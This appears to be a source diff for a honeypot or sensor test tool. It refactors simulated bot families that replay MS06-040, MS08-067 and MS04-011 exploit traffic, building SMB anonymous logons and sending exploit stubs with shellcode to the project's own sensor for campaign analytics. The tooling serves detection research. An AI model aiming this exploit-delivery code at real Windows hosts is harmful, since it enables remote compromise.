@@ -17,7 +17,15 @@ LM 0.12 and ``SMBConnection(existingConnection=...)`` gives the usual API. No mo
 patched (the tests point ``nmb.NETBIOS_SESSION_PORT`` at an ephemeral port instead), so bots run
 concurrently in threads.
 
-The bots log on the way the 2006 bots and Metasploit's RubySMB do: a legacy NULL session
+The attackers belong to bot families (:mod:`stormwatch.demo.families`, mimics of the 2006
+families): each family's bots share its exploit framing (target layout, service, pipe, calls,
+fragment size), client stack (dialects offered, NULL session or NTLMSSP anonymous logon with a
+patterned workstation name, NativeOS) and shellcode (decoder, key, what it does), so the campaigns
+analytics (:mod:`stormwatch.analytics.campaigns`) has something real to find. A family's client
+sends its own SMB NEGOTIATE (impacket's always offers ``NT LM 0.12`` alone) and hands the answer
+to ``smb.SMB(..., negPacket=...)``, which then only parses it.
+
+The NULL-session bots log on the way the 2006 bots and Metasploit's RubySMB do: a legacy NULL session
 (SESSION_SETUP_ANDX, WordCount 13, an empty OEM password) carrying the profile's NativeOS, built
 from impacket's structures; impacket's own ``login`` would always say ``Unix``/``Samba``, which is
 what the Samba-like benign client keeps.
@@ -38,11 +46,13 @@ from dataclasses import dataclass, field
 from datetime import UTC
 from typing import Any, Protocol
 
-from impacket import nmb, smb  # type: ignore[import-untyped]
+from impacket import nmb, ntlm, smb  # type: ignore[import-untyped]
 from impacket.dcerpc.v5 import dssp, srvs, transport  # type: ignore[import-untyped]
 from impacket.smbconnection import SMBConnection  # type: ignore[import-untyped]
+from impacket.spnego import SPNEGO_NegTokenInit, SPNEGO_NegTokenResp, TypesMech  # type: ignore[import-untyped]
 
-from stormwatch.demo import shapes
+from stormwatch.demo import families, shapes
+from stormwatch.demo.families import FAMILIES, Family, Stack
 from stormwatch.demo.generate import DemoPlan
 
 TIMEOUT = 10.0  # seconds a bot waits for the sensor before giving up
@@ -61,20 +71,20 @@ class Profile:
     pipe: str  # as the client writes it
     target: str = ""  # MS06-040 target (shapes.MS06_040_UNITS); for benign clients what they do
     weight: float = 1.0
-    fresh_payload: bool = False  # a new encoding per bot (Metasploit), else one payload per family
+    family: Family | None = None  # the bot family of an attacker (benign clients have none)
 
 
 W2K = ("Windows 2000 2195", "Windows 2000 5.0")  # also Metasploit's SMB::Native_OS/Native_LM defaults
-XP = ("Windows 5.1", "Windows 2000 LAN Manager")
+
+
+def family_profile(f: Family) -> Profile:
+    """The profile of a bot family's visits."""
+    return Profile(f.name, f.framing.vuln, f.stack.native_os, f.stack.native_lanman, f.framing.service,
+                   f.framing.pipe, f.framing.target, f.weight, family=f)
+
 
 PROFILES: tuple[Profile, ...] = (
-    Profile("w2k-browser", "MS06-040", *W2K, "netbios-ssn", "\\BROWSER", "w2k", 5.0),
-    Profile("xp-srvsvc", "MS06-040", *XP, "smb", "\\SRVSVC", "xp", 2.0),
-    Profile("xp-stack", "MS06-040", *XP, "smb", "\\BROWSER", "xp-stack", 1.5),
-    Profile("msf-2003", "MS06-040", *W2K, "smb", "\\SRVSVC", "2003", 1.0, fresh_payload=True),
-    Profile("msf-ms08-067", "MS08-067", *W2K, "smb", "\\BROWSER", fresh_payload=True),
-    Profile("lsass-445", "MS04-011", *W2K, "smb", "\\lsarpc"),
-    Profile("lsass-139", "MS04-011", *W2K, "netbios-ssn", "\\lsarpc", weight=0.5),
+    *(family_profile(f) for f in FAMILIES),
     Profile("samba-list", "benign", "Unix", "Samba", "smb", "\\srvsvc", "shares"),
     Profile("w2k-netview", "benign", *W2K, "netbios-ssn", "\\srvsvc", "share-enum"),
     Profile("xp-explorer", "benign", "Windows 2002 Service Pack 2 2600", "Windows 2002 5.1", "smb", "\\srvsvc",
@@ -137,7 +147,7 @@ class Client:
     """One TCP connection from ``src_ip`` to the sensor, SMB1 (NT LM 0.12) negotiated; a context
     manager that always closes the socket (a bot hangs up without LOGOFF, as the 2006 bots did)."""
 
-    def __init__(self, src_ip: str, target: Range, service: str, called: str) -> None:
+    def __init__(self, src_ip: str, target: Range, service: str, called: str, stack: Stack | None = None) -> None:
         self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
         try:
             self.sock.settimeout(TIMEOUT)
@@ -147,7 +157,9 @@ class Client:
             framing = nmb.NETBIOS_SESSION_PORT if service == "netbios-ssn" else nmb.SMB_SESSION_PORT
             nbss = nmb.NetBIOSTCPSession("BOT", called, target.host, sess_port=framing, timeout=TIMEOUT,
                                          sock=self.sock)
-            self.smb = smb.SMB(called, target.host, "BOT", sess_port=framing, timeout=TIMEOUT, session=nbss)
+            answer = None if stack is None else _negotiate(nbss, stack.dialects, extended=stack.ntlmssp)
+            self.smb = smb.SMB(called, target.host, "BOT", sess_port=framing, timeout=TIMEOUT, session=nbss,
+                               negPacket=answer)
             self.conn = SMBConnection(existingConnection=self.smb)
         except BaseException:
             self.sock.close()
@@ -158,6 +170,13 @@ class Client:
 
     def __exit__(self, *exc: object) -> None:
         self.sock.close()
+
+    def logon(self, stack: Stack, rng: random.Random) -> None:
+        """The family's logon: NTLMSSP anonymous with a workstation name from its pattern, or a NULL session."""
+        if stack.ntlmssp:
+            self.ntlmssp_anonymous(stack, families.workstation(stack.workstation, rng))
+        else:
+            self.null_session(stack.native_os, stack.native_lanman)
 
     def null_session(self, native_os: str, native_lanman: str) -> None:
         """[MS-CIFS] 2.2.4.53.1 SESSION_SETUP_ANDX request, NT LM 0.12 form (WordCount 13): no
@@ -180,21 +199,80 @@ class Client:
             raise ConnectionError("no SESSION_SETUP_ANDX answer")
         self.smb.set_uid(answer["Uid"])
 
-    def rpc(self, pipe: str, interface: bytes) -> Any:
-        """IPC$, the pipe opened, the interface bound: an impacket DCERPC_v5."""
+    def ntlmssp_anonymous(self, stack: Stack, workstation: str) -> None:
+        """[MS-NLMP] 3.1.5 anonymous logon in two SESSION_SETUP_ANDX legs ([MS-SMB] 2.2.4.6.1,
+        extended security, SPNEGO-wrapped): NEGOTIATE with the family's flags, then an
+        AUTHENTICATE with no user, an empty LM response, and the bot's workstation name."""
+        negotiate = ntlm.NTLMAuthNegotiate()
+        negotiate["flags"] = stack.ntlm_flags
+        init = SPNEGO_NegTokenInit()
+        init["MechTypes"] = [TypesMech["NTLMSSP - Microsoft NTLM Security Support Provider"]]
+        init["MechToken"] = negotiate.getData()
+        challenge = ntlm.NTLMAuthChallenge(SPNEGO_NegTokenResp(self._setup_leg(init.getData(), stack))["ResponseToken"])
+        auth = ntlm.NTLMAuthChallengeResponse("", "", challenge["challenge"])
+        auth["flags"] = stack.ntlm_flags
+        auth["domain_name"] = stack.domain.encode("utf-16-le")
+        auth["host_name"] = workstation.encode("utf-16-le")
+        auth["lanman"], auth["ntlm"] = b"\0", b""
+        resp = SPNEGO_NegTokenResp()
+        resp["ResponseToken"] = auth.getData()
+        self._setup_leg(resp.getData(), stack)
+
+    def _setup_leg(self, blob: bytes, stack: Stack) -> bytes:
+        """One extended-security SESSION_SETUP_ANDX leg; returns the server's security blob. The
+        strings go as OEM text (the Unicode form would need a pad after an even-length blob)."""
+        flags2 = self.smb.get_flags()[1]
+        self.smb.set_flags(flags2=flags2 & ~smb.SMB.FLAGS2_UNICODE)
+        try:
+            cmd = smb.SMBCommand(smb.SMB.SMB_COM_SESSION_SETUP_ANDX)
+            p = cmd["Parameters"] = smb.SMBSessionSetupAndX_Extended_Parameters()
+            p["MaxBufferSize"], p["MaxMpxCount"], p["VcNumber"], p["SessionKey"] = 4356, 10, 0, 0
+            p["Capabilities"] = (smb.SMB.CAP_EXTENDED_SECURITY | smb.SMB.CAP_NT_SMBS | smb.SMB.CAP_USE_NT_ERRORS
+                                 | smb.SMB.CAP_UNICODE)
+            p["SecurityBlobLength"] = len(blob)
+            d = cmd["Data"] = smb.SMBSessionSetupAndX_Extended_Data()
+            d["SecurityBlob"], d["NativeOS"], d["NativeLanMan"] = blob, stack.native_os, stack.native_lanman
+            packet = smb.NewSMBPacket()
+            packet.addCommand(cmd)
+            self.smb.sendSMB(packet)
+            answer = self.smb.recvSMB()
+        finally:
+            self.smb.set_flags(flags2=flags2)
+        if not answer.isValidAnswer(smb.SMB.SMB_COM_SESSION_SETUP_ANDX):
+            raise ConnectionError("no SESSION_SETUP_ANDX answer")
+        self.smb.set_uid(answer["Uid"])
+        part = smb.SMBCommand(answer["Data"][0])
+        params = smb.SMBSessionSetupAndX_Extended_Response_Parameters(part["Parameters"])
+        data = smb.SMBSessionSetupAndX_Extended_Response_Data(flags=answer["Flags2"])
+        data["SecurityBlobLength"] = params["SecurityBlobLength"]
+        data.fromString(part["Data"])
+        return bytes(data["SecurityBlob"])
+
+    def rpc(self, pipe: str, interface: bytes, max_frag: int = 0) -> Any:
+        """IPC$, the pipe opened, the interface bound: an impacket DCERPC_v5 (requests cut into
+        fragments of ``max_frag`` bytes when given)."""
         dce = transport.SMBTransport(self.smb.get_remote_host(), filename=pipe, smb_connection=self.conn).get_dce_rpc()
         dce.connect()
         dce.bind(interface)
+        if max_frag:
+            dce.set_max_fragment_size(max_frag)
         return dce
 
 
+def _negotiate(nbss: Any, dialects: Sequence[str], *, extended: bool) -> bytes:
+    """Send [MS-CIFS] 2.2.4.52.1 SMB_COM_NEGOTIATE with ``dialects`` (in order); the answer's SMB bytes."""
+    packet = smb.NewSMBPacket()
+    packet["Flags1"] = smb.SMB.FLAGS1_PATHCASELESS | smb.SMB.FLAGS1_CANONICALIZED_PATHS
+    packet["Flags2"] = (smb.SMB.FLAGS2_NT_STATUS | smb.SMB.FLAGS2_LONG_NAMES
+                        | (smb.SMB.FLAGS2_EXTENDED_SECURITY if extended else 0))
+    cmd = smb.SMBCommand(smb.SMB.SMB_COM_NEGOTIATE)
+    cmd["Data"] = b"".join(b"\x02" + d.encode("ascii") + b"\0" for d in dialects)
+    packet.addCommand(cmd)
+    nbss.send_packet(packet.getData())
+    return bytes(nbss.recv_packet(TIMEOUT).get_trailer())
+
+
 # -- what each kind of client does ------------------------------------------------------------------
-
-def _family(profile: Profile, rng: random.Random) -> random.Random:
-    """Where a bot's exploit bytes come from: its family's generator (the same bot binary
-    everywhere: one payload per family), or its own (Metasploit encodes afresh each run)."""
-    return rng if profile.fresh_payload else random.Random(profile.name)
-
 
 def _other(service: str) -> str:
     return "smb" if service == "netbios-ssn" else "netbios-ssn"
@@ -206,41 +284,52 @@ def run_visit(visit: Visit, target: Range) -> tuple[int, str | None]:
     p = visit.profile
     opened = 0
 
-    def session(service: str, called: str) -> Client:
+    def session(service: str, called: str, stack: Stack | None = None) -> Client:
         nonlocal opened
-        client = Client(visit.src_ip, target, service, called)
+        client = Client(visit.src_ip, target, service, called, stack)
         opened += 1
         return client
 
     try:
-        if p.attack == "MS06-040":
-            family = _family(p, rng)
-            path = shapes.ms06_040_path(p.target, shapes.shellcode(family, shapes.PAYLOAD_SPACE), family)
-            for service in (p.service, _other(p.service)) if visit.retry else (p.service,):
-                stub = shapes.ms06_040_stub(path, p.target, rng)
-                with session(service, target.host) as c:
-                    c.null_session(p.native_os, p.native_lanman)
-                    dce = c.rpc(p.pipe, srvs.MSRPC_UUID_SRVS)
-                    dce.call(31, stub)  # sent twice, unanswered, as ms06_040_netapi does
-                    dce.call(31, stub)
-        elif p.attack == "MS08-067":
-            stubs = [shapes.ms08_067_stub(shapes.shellcode(_family(p, rng), 408), rng)]
-            if rng.random() < 0.5:  # the module's check first, in a session of its own
-                stubs.insert(0, shapes.ms08_067_check_stub(rng))
-            for stub in stubs:
-                with session(p.service, target.host) as c:
-                    c.null_session(p.native_os, p.native_lanman)
-                    c.rpc(p.pipe, srvs.MSRPC_UUID_SRVS).call(31, stub)
-        elif p.attack == "MS04-011":
-            with session(p.service, target.host) as c:
-                c.null_session(p.native_os, p.native_lanman)
-                code = shapes.shellcode(_family(p, rng), 400)
-                c.rpc(p.pipe, dssp.MSRPC_UUID_DSSP).call(9, shapes.ms04_011_stub(code, rng))
-        else:
+        fam = p.family
+        if fam is None:
             _benign(p, session(p.service, target.name))
+        else:
+            _attack(visit, fam, rng, lambda service: session(service, target.host, fam.stack))
     except Exception as exc:  # noqa: BLE001 - one failed bot is reported, the others go on
         return opened, f"{p.name} from {visit.src_ip}: {type(exc).__name__}: {exc}"
     return opened, None
+
+
+def _attack(visit: Visit, fam: Family, rng: random.Random, session: Callable[[str], Client]) -> None:
+    """One bot of ``fam``: its shellcode in its exploit framing, from its client stack."""
+    fr = fam.framing
+    code = families.shellcode(fam, rng, visit.src_ip)
+    # the padding around the shellcode comes from the family's generator: one binary, one layout
+    layout = random.Random(fam.name)
+    if fr.vuln == "MS06-040":
+        path = shapes.ms06_040_path(fr.target, code, layout)
+        for service in (fr.service, _other(fr.service)) if visit.retry else (fr.service,):
+            stub = shapes.ms06_040_stub(path, fr.target, rng, outbuf_len=fr.outbuf_len, path_type=fr.path_type)
+            with session(service) as c:
+                c.logon(fam.stack, rng)
+                dce = c.rpc(fr.pipe, srvs.MSRPC_UUID_SRVS, fr.max_frag)
+                for _ in range(fr.calls):  # unanswered: the server thread has crashed (or not)
+                    dce.call(31, stub)
+    elif fr.vuln == "MS08-067":
+        stubs = [shapes.ms08_067_stub(code + shapes.shellcode(rng, max(0, 408 - len(code))), rng)]
+        if rng.random() < fam.check_first:  # the module's check first, in a session of its own
+            stubs.insert(0, shapes.ms08_067_check_stub(rng))
+        for stub in stubs:
+            with session(fr.service) as c:
+                c.logon(fam.stack, rng)
+                c.rpc(fr.pipe, srvs.MSRPC_UUID_SRVS, fr.max_frag).call(31, stub)
+    elif fr.vuln == "MS04-011":
+        with session(fr.service) as c:
+            c.logon(fam.stack, rng)
+            c.rpc(fr.pipe, dssp.MSRPC_UUID_DSSP, fr.max_frag).call(9, shapes.ms04_011_stub(code, rng))
+    else:
+        raise ValueError(f"{fam.name}: no exploit for {fr.vuln}")
 
 
 def _benign(p: Profile, client: Client) -> None:
